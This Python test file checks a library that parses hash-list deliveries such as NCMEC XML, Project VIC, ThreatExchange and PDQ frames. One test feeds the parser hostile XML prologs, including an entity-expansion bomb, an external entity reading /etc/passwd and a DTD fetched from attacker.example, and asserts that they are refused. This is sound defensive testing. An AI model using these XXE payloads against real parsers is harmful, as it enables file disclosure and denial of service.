"""The traps that real deliveries hold, format by format, as parsers met them in the field."""

import io
import json
import random

import pytest

from hashsets.errors import BrokenListError, ListColumnsError
from hashsets.formats import FORMATS, Doubt, ListRow, Refusal, Row, Withdrawal, choose_format, read_delivery
from hashsets.formats import pdq_text as pdq_format
from hashsets.formats import threatexchange_csv as threatexchange_format
from hashsets.formats import vics as vics_format
from hashsets.formats.records import columns_from
from hashsets.formats.rows import read_time
from hashsets.formats.vpdq_text import write_frames
from hashsets.values import Algorithm
from tests.hashsets.samples import (
    BOTH,
    LAST_MD5,
    LAST_PDQ,
    MD5,
    OTHER_MD5,
    OTHER_PDQ,
    OTHERS,
    PDQ,
    PHOTODNA,
    SHA1,
    hashed,
    ncmec,
    vics,
)


def read(text: str, name: str | None = None, columns: dict[str, str] | None = None) -> list[Row]:
    chosen = columns_from(columns) if columns else None
    return list(read_delivery(io.BytesIO(text.encode()), name, chosen)[1])


@pytest.mark.parametrize(
    "text",
    [
        f"ref;hash_md5;severity;wert\n7;{MD5};A;{SHA1}\n",  # as columns
        json.dumps([{"ref": 7, "hash_md5": MD5, "severity": "A", "wert": SHA1}]),  # as an array
        json.dumps({"ref": "7", "hash_md5": MD5, "severity": "A", "wert": SHA1}) + "\n",  # as one object a line
        json.dumps({"page": 1, "items": [{"ref": 7, "hash_md5": MD5, "severity": "A", "wert": SHA1}]}, indent=2),
    ],
)
def test_columns_of_any_name_are_found_where_a_person_names_them(text: str) -> None:
    columns = {"md5": "hash_md5", "SHA-1": "Wert", "entry": "ref", "label": "severity"}

    assert [ListRow(BOTH, "7", "A")] == read(text, columns=columns)


def test_a_named_column_takes_the_place_of_the_one_of_the_usual_name() -> None:
    text = f"id,md5,real md5\nE1,{OTHER_MD5},{MD5}\n"

    assert [hashed(Algorithm.MD5, MD5, "E1")] == read(text, columns={"md5": "real md5"})


def test_a_name_inside_an_object_is_written_with_a_dot() -> None:
    text = json.dumps([{"id": "E1", "hashes": {"md5": MD5, "other": OTHER_MD5}}])

    assert [hashed(Algorithm.MD5, MD5, "E1")] == read(text, columns={"md5": "hashes.md5"})


@pytest.mark.parametrize(
    ("text", "name", "columns"),
    [
        ("a,b\n1,2\n", None, {"md5": "nowhere"}),  # the header does not have it
        ('[{"a":1}]', None, {"md5": "nowhere"}),  # no record has it
        ("a,b\n1,2\n", None, {"colour": "a"}),  # nothing we know
        ("a,b\n1,2\n", None, {"md5": ""}),  # no column
        (ncmec(OTHER_MD5), "ncmec-xml", {"md5": "a"}),  # a format without columns
    ],
)
def test_columns_that_cannot_be_used_are_an_error_with_its_cure(
    text: str, name: str | None, columns: dict[str, str]
) -> None:
    with pytest.raises(ListColumnsError):
        read(text, name, columns)


def test_a_withdrawal_without_an_id_is_by_its_hash_and_one_of_nothing_is_refused() -> None:
    rows = read(f"md5,deleted\n{MD5},yes\n,true\n{OTHER_MD5},no\n")

    assert [Withdrawal, Refusal, ListRow] == [type(row) for row in rows]


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE a [<!ENTITY x "xxxxxxxx"><!ENTITY y "&x;&x;&x;">]>',  # entities that grow
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',  # and that read files
        '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',  # and that fetch
        "<!DOCTYPE a>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_xml_page_with_a_document_type_is_refused_whole(prolog: str, encoding: str) -> None:
    text = f"{prolog}{ncmec(OTHER_MD5).partition('?>')[2]}"
    page = io.BytesIO(text.encode(encoding))
    form = next(known for known in FORMATS if known.NAME == "ncmec-xml")

    with pytest.raises(BrokenListError):
        list(form.read_rows(page))


def test_two_members_of_ncmec_may_use_the_same_id() -> None:
    text = ncmec(OTHER_MD5).replace("image1", "image3").replace('id="42"', 'id="43"', 1)

    assert [row.entry for row in read(text) if isinstance(row, ListRow)][:2] == ["43-image3", "42-image3"]


def test_a_page_of_ncmec_that_is_not_the_last_says_so() -> None:
    link = "<paging><next>/v2/entries?start=2001&amp;size=1000&amp;max=3000</next></paging></queryResult>"
    rows = read(ncmec(OTHER_MD5).replace("</queryResult>", link))

    assert [Doubt(6, "more pages follow this one: import them all")] == [row for row in rows if isinstance(row, Doubt)]


def test_another_namespace_is_another_format_and_gives_nothing() -> None:
    assert read(ncmec(OTHER_MD5).replace("/v2", "/v9"), "ncmec-xml") == []


def test_vics_1_3_and_whole_cases_are_read_like_media() -> None:
    media = json.loads(vics(OTHER_MD5))["value"]
    hash_set = {"odata.metadata": "http://github.com/ICMEC/ProjectVic/DataModels/1.3.xml#Media", "value": media}
    cases = {
        "odata.metadata": "http://github.com/ICMEC/ProjectVic/DataModels/1.3.xml#Cases",
        "value": [{"CaseID": "c1", "Media": media[:2]}, {"CaseID": "c2", "Media": media[2:]}],
    }

    expected = read(vics(OTHER_MD5))
    assert ListRow(BOTH, "7", "1", OTHERS) == expected[0]
    assert expected == read(json.dumps(hash_set)) == read(json.dumps(cases))


def test_an_unknown_type_of_hash_in_vics_is_kept_and_costs_nothing() -> None:
    text = vics(OTHER_MD5).replace('"PhotoDNA"', '"F1 Hash"')

    assert read(text)[0].others == (("f1hash", PHOTODNA),)  # type: ignore[union-attr]


@pytest.mark.parametrize("kind", ["URI", "DEBUG_STRING", "raw_text", ""])
def test_what_an_exchange_shares_beside_hashes_is_refused_and_not_kept(kind: str) -> None:
    text = json.dumps([{"id": "7", "indicator": "a.example", "type": kind, "should_delete": False}])

    assert [Refusal(1, "a type we neither look up nor keep")] == read(text)


def test_an_indicator_that_all_call_harmless_is_taken_back() -> None:
    descriptors = {"data": [{"status": "NON_MALICIOUS", "tags": ["a"]}]}
    record = {"id": "7", "indicator": MD5, "type": "HASH_MD5", "should_delete": "false", "descriptors": descriptors}

    assert [Withdrawal("7")] == read(json.dumps({"data": [record]}))


@pytest.mark.parametrize(
    ("name", "algorithm", "value"),
    [
        ("simple.HASH_PDQ.te", Algorithm.PDQ, PDQ),
        ("simple.HASH_SHA256.te", Algorithm.SHA256, PDQ),
        ("simple.video_md5.te", Algorithm.MD5, MD5),
        ("dump.txt", Algorithm.MD5, MD5),  # told by its length
    ],
)
def test_a_dump_of_threatexchange_is_of_the_type_in_its_name(name: str, algorithm: Algorithm, value: str) -> None:
    stream = io.BytesIO(f"{value},7,2026-01-01T00:00:00+0000,a1\n".encode())
    stream.name = f"/somewhere/{name}"

    assert [hashed(algorithm, value, "7", "a1")] == list(choose_format(stream).read_rows(stream))


def test_a_value_alone_is_told_by_its_length_where_the_format_is_named() -> None:
    assert [hashed(Algorithm.MD5, MD5), hashed(Algorithm.PDQ, PDQ)] == read(f"{MD5}\n{PDQ}\n", "tx-local")


def test_a_poor_frame_is_left_out_and_a_quality_that_is_none_is_refused() -> None:
    rows = read(f"0,49,{PDQ},0.0\n1,101,{PDQ},1.0\n2,-1,{PDQ},2.0\n3,50,{LAST_PDQ},3.0\n", "vpdq-text")

    assert [Refusal, Refusal, ListRow] == [type(row) for row in rows]


def test_frames_as_an_array_are_read_too() -> None:
    frames = [{"frame": 0, "quality": 100, "hash": PDQ, "timestamp": 0}]

    assert [row.hashes for row in read(json.dumps(frames)) if isinstance(row, ListRow)] == [((Algorithm.PDQ, PDQ),)]


def test_software_of_nsrl_with_a_file_name_in_another_encoding_is_read() -> None:
    header = '"SHA-1","MD5","CRC32","FileName","FileSize","ProductCode","OpSystemCode","SpecialCode"\n'
    content = header.encode() + f'"{SHA1.upper()}","{MD5.upper()}","0",'.encode() + b'"\xe9t\xe9.dll",1,1,"1",""\n'

    assert [ListRow(BOTH)] == list(choose_format(io.BytesIO(content)).read_rows(io.BytesIO(content)))


@pytest.mark.parametrize(
    ("text", "seconds"),
    [("2026-01-01T00:00:00Z", 1767225600), ("1767225600", 1767225600), ("2026-01-01T00:00:00.000+01:00", 1767222000)]
    + [(odd, 0) for odd in ("", "yesterday", "9" * 30, "-1", "2026-13-01", "\u0661")],
)
def test_a_time_that_is_none_says_nothing(text: str, seconds: int) -> None:
    assert seconds == read_time(text)


OWN = [ListRow(((Algorithm.PDQ, PDQ), *BOTH), "M1", "A1", OTHERS), hashed(Algorithm.PDQ, OTHER_PDQ, "M2")]


def test_pdq_text_that_we_write_is_read_back() -> None:
    assert [hashed(Algorithm.PDQ, PDQ), hashed(Algorithm.PDQ, OTHER_PDQ)] == read("".join(pdq_format.write_rows(OWN)))


def test_threatexchange_csv_that_we_write_is_read_back() -> None:
    rows = read("".join(threatexchange_format.write_rows(OWN)))
    found = {(row.entry, row.label, pair) for row in rows if isinstance(row, ListRow) for pair in row.hashes}
    kept = [row.others for row in rows if isinstance(row, ListRow) and row.others]

    assert {(row.entry, row.label, pair) for row in OWN for pair in row.hashes} == found
    assert kept == [OTHERS]


def test_vics_that_we_write_is_read_back() -> None:
    rows = [row for row in read("".join(vics_format.write_rows(OWN))) if isinstance(row, ListRow)]

    assert [(row.entry, row.label, set(row.hashes), row.others) for row in OWN] == [
        (row.entry, row.label, set(row.hashes), row.others) for row in rows
    ]


def test_frames_that_we_write_are_read_back() -> None:
    rows = read("".join(write_frames([(0, 100, PDQ, 0.0), (1, 30, OTHER_PDQ, 1.0), (2, 50, LAST_PDQ, 2.5)])))

    assert [value for row in rows if isinstance(row, ListRow) for _, value in row.hashes] == [PDQ, LAST_PDQ]


def test_hashes_of_the_empty_file_are_refused_in_records_too() -> None:
    text = json.dumps([{"id": "1", "md5": "d41d8cd98f00b204e9800998ecf8427e"}, {"id": "2", "md5": LAST_MD5}])

    assert [Refusal(1, "md5: hash of the empty file"), hashed(Algorithm.MD5, LAST_MD5, "2")] == read(text)


def test_strings_that_lie_across_the_pieces_of_a_file_are_no_structure() -> None:
    rng = random.Random(5)
    for _ in range(20):
        text = "".join(rng.choice(('"', "\\", "[", "{", "]", "x")) for _ in range(rng.randrange(60_000, 200_000)))
        records = [{"id": "1", "md5": MD5, "note": text}, {"id": "2", "md5": LAST_MD5}]

        assert [hashed(Algorithm.MD5, MD5, "1"), hashed(Algorithm.MD5, LAST_MD5, "2")] == read(json.dumps(records))
